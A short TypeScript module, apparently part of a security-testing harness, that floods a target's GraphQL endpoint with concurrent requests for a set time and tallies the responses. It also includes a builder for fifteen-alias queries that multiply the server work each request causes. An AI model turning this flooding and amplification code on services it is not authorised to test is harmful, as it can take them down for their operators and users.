import type { Target } from '../define-attack.ts'

type Options = {
  /** How many requests are under way at any moment. */
  atOnce: number
  /** For how long, in milliseconds. */
  lastingMs: number
  key?: string
  /** The next request's body. */
  body: (index: number) => string
}

/** Asks GraphQL over and over, and tells how many requests had which status, and how much was answered. */
export async function hammerGraphQL({ url, signal }: Target, options: Options): Promise<string> {
  const { atOnce, lastingMs, key, body } = options
  const headers = { 'content-type': 'application/json', ...(key && { authorization: `Bearer ${key}` }) }
  const until = performance.now() + lastingMs
  const statuses = new Map<string, number>()
  let bytes = 0
  let next = 0
  const ask = async () => {
    while (performance.now() < until && !signal.aborted) {
      const request = { method: 'POST', headers, body: body(next++), signal }
      const answer = await fetch(`${url}/graphql`, request).catch(() => null)
      bytes += (await answer?.arrayBuffer().catch(() => null))?.byteLength ?? 0
      const status = String(answer?.status ?? 'no answer')
      statuses.set(status, (statuses.get(status) ?? 0) + 1)
    }
  }
  await Promise.all(Array.from({ length: atOnce }, ask))
  const counts = [...statuses].map(([status, count]) => `${count} × ${status}`).join(', ')
  return `${counts}; ${Math.round(bytes / 1e5) / 10} MB answered`
}

/** A GraphQL operation that asks for a field under fifteen names. */
export const fifteen = (field: string, mark: string | number = '') =>
  `{ ${Array.from({ length: 15 }, (_, index) => `a${mark}_${index}: ${field}`).join(' ')} }`
